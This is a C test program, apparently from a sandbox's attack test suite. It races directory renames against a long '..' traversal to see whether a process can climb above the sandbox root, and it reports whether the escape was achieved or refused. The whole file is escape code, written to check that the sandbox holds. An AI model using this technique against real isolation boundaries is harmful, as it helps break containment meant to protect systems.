/* attack: climbs by .. out of a directory that is moved away meanwhile
 * proof: the way up ends in the sandbox's own root, whatever is moved when */
#include "../attack.h"

static volatile bool over;

static void *move(void *unused) {
  (void)unused;
  while (!over) {
    rename("a/b/c", "d");
    rename("d", "a/b/c");
  }
  return NULL;
}

int main(void) {
  pthread_t mover;
  struct stat root, top;
  bool left = false;
  mkdir("a", 0755), mkdir("a/b", 0755), mkdir("a/b/c", 0755), mkdir("a/b/c/e", 0755);
  int start = open("a/b/c/e", O_RDONLY | O_DIRECTORY);
  stat("/", &root);
  pthread_create(&mover, NULL, move, NULL);
  for (double end = now() + 0.5; now() < end;) {
    int top_fd = openat(start, "../../../../../../../../../..", O_PATH | O_DIRECTORY);
    if (top_fd >= 0 && fstat(top_fd, &top) == 0 && (top.st_dev != root.st_dev || top.st_ino != root.st_ino))
      left = true;
    close(top_fd);
  }
  over = true;
  pthread_join(mover, NULL);
  if (left)
    achieved("a directory above the root");
  else
    refused("to climb above the root");
}
